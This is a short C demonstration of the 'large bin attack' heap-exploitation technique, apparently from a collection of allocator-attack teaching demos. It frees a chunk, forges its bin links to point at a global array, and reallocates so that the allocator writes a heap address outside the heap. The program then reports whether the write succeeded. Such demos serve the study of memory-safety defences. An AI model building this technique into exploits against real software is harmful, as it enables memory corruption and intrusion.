/*
 * large_bin_attack: while a chunk is put into a bin, its address is written
 * through a link of the chunk that is there.
 */
#include "technique.h"

static uint64_t variable[8];

int main(void)
{
    void *a = malloc(3 * CHUNKED);
    malloc(CHUNKED);
    void *b = malloc(3 * CHUNKED);
    malloc(CHUNKED);
    free_for_good(a);
    uint64_t secret = link_secret(a, PREVIOUS, 0);
    forge_link(a, NEXT, secret, &variable[1]);
    forge_link(a, PREVIOUS, secret, &variable[2]);
    free_for_good(b);
    malloc(3 * CHUNKED);
    malloc(3 * CHUNKED);
    for (int i = 0; i < 8; i++) {
        if (variable[i] != 0) {
            succeeds("a variable outside of the heap has changed");
        }
    }
    fails();
}
